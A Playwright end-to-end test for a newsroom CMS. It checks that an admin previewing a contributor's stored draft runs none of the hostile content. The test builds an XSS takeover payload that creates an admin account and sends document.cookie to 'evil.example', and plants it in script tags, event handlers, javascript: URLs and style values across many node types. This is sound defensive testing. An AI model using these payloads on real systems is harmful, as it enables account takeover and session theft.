import { createHmac } from 'node:crypto'

import type { APIRequestContext } from '@playwright/test'
import { expect, test } from '@playwright/test'

import { element, lexicalBody, paragraph, text } from '../src/articles/body/lexicalBuilders'

import { createAccount, signIn } from './support/admin'
import { Newsroom, simpleBody } from './support/content'
import { adminHeaders } from './support/newsroom'
import { E2E } from './support/settings'
import { storeBodyUnchecked } from './support/storeBodyUnchecked'

/** What the attacker's script would do with an admin's session: make itself an admin account. */
const TAKEOVER =
  "fetch('/api/users',{method:'POST',credentials:'include',headers:{'content-type':'application/json'}," +
  "body:JSON.stringify({email:'pwned@evil.example',password:'pwned-password-1234',roles:['admin']})})" +
  ";fetch('https://evil.example/steal?c='+document.cookie);alert('pwned')"

const HONEST_TEXT = 'An honest paragraph the reader should see.'

/** Script in every place a Lexical node can carry it, in node types the editor does not offer. */
const hostileBody = () =>
  lexicalBody(
    paragraph(HONEST_TEXT),
    element('table', [
      element('tablerow', [
        element('tablecell', ['cell'], {
          headerState: `"><img src=x onerror="${TAKEOVER}">`,
          colSpan: 1,
          backgroundColor: `red;background:url(javascript:${TAKEOVER})`,
        }),
      ]),
    ]),
    paragraph(
      element('link', ['click me'], {
        fields: { url: `javascript:${TAKEOVER}`, linkType: 'custom', newTab: true },
      }),
      { ...text('bold'), format: 1, style: `x" onmouseover="${TAKEOVER}` },
      text(`<script>${TAKEOVER}</script>`),
    ),
    element('heading', ['Tagged'], { tag: `h2 onmouseover="${TAKEOVER}"` }),
    element('code', ['let x = 1'], { language: `"><script>${TAKEOVER}</script>` }),
    element('html-embed', [], { html: `<script>${TAKEOVER}</script>` }),
    element('list', [element('listitem', ['item'], { value: `1" onclick="${TAKEOVER}` })], {
      listType: 'check',
      tag: `ul><script>${TAKEOVER}</script`,
    }),
    element('block', [], { fields: { blockType: 'html', html: `<script>${TAKEOVER}</script>` } }),
    element('mark', [`<img src=x onerror="${TAKEOVER}">`], {
      ids: [`"><svg onload="${TAKEOVER}">`],
    }),
  )

const userCount = async (request: APIRequestContext): Promise<number> => {
  const response = await request.get('/api/users?limit=1&depth=0', {
    headers: await adminHeaders(request),
  })
  expect(response.ok()).toBeTruthy()
  return (await response.json()).totalDocs
}

test("should preview a contributor's hostile stored draft without running any of it", async ({
  page,
  request,
}) => {
  const newsroom = await Newsroom.signIn(request)
  const [author, image] = await Promise.all([
    newsroom.author(`Hostile Contributor ${Date.now()}`),
    newsroom.image('Hostile draft picture'),
  ])
  const contributor = await createAccount(request, 'contributor')
  const login = await request.post('/api/users/login', { data: contributor })
  const contributorHeaders = { Authorization: `JWT ${(await login.json()).token}` }
  const created = await request.post('/api/articles?draft=true', {
    headers: contributorHeaders,
    data: {
      title: `Hostile draft ${Date.now()}`,
      section: 'military',
      heroImage: image.id,
      authors: [author.id],
      body: simpleBody('Harmless', 'For now.'),
      _status: 'draft',
    },
  })
  expect(created.status()).toBe(201)
  const { doc } = await created.json()

  // The API refuses the body; stored straight into the database it stands for one saved before.
  const refused = await request.patch(`/api/articles/${doc.id}?draft=true`, {
    headers: contributorHeaders,
    data: { body: hostileBody() },
  })
  expect(refused.status()).toBe(400)
  await storeBodyUnchecked(doc.id, hostileBody())

  const usersBefore = await userCount(request)
  await signIn(page, E2E.admin)
  const dialogs: string[] = []
  page.on('dialog', async (dialog) => {
    dialogs.push(dialog.message())
    await dialog.dismiss()
  })
  const unexpected: string[] = []
  page.on('request', (sent) => {
    const url = new URL(sent.url())
    const isOwn = url.origin === E2E.baseURL
    const isAccountChange = url.pathname.startsWith('/api/users') || url.pathname === '/api/graphql'
    if (!isOwn || isAccountChange) unexpected.push(`${sent.method()} ${sent.url()}`)
  })

  const token = createHmac('sha256', E2E.secret).update(`preview:${doc.slug}`).digest('base64url')
  await page.goto(`/next/preview?slug=${doc.slug}&token=${token}`)
  await expect(page).toHaveURL(new RegExp(`/military/${doc.slug}$`))
  await expect(page.getByRole('status').filter({ hasText: 'previewing a draft' })).toBeVisible()
  const body = page.locator('.body')
  await expect(body.getByText(HONEST_TEXT)).toBeVisible()
  // What is left is escaped text, and nothing in the body can be made to run by a reader's touch.
  await expect(body.getByText(`<script>${TAKEOVER}</script>`)).toBeVisible()
  await body.getByRole('heading', { name: 'Tagged' }).hover()
  await body.getByText('bold').hover()
  const handlers = await body
    .locator('*')
    .evaluateAll((nodes) =>
      nodes.flatMap((node) =>
        [...node.attributes]
          .filter((attribute) => attribute.name.startsWith('on') || attribute.name === 'style')
          .map((attribute) => `${node.tagName} ${attribute.name}`),
      ),
    )
  expect(handlers).toEqual([])
  await expect(body.locator('script, table, img, svg, code, mark, iframe')).toHaveCount(0)
  await expect(body.getByRole('link', { name: 'click me' })).toHaveCount(0)
  await page.waitForLoadState('networkidle')

  expect(dialogs).toEqual([])
  expect(unexpected).toEqual([])
  expect(await userCount(request)).toBe(usersBefore)
  await newsroom.remove(doc.id)
})
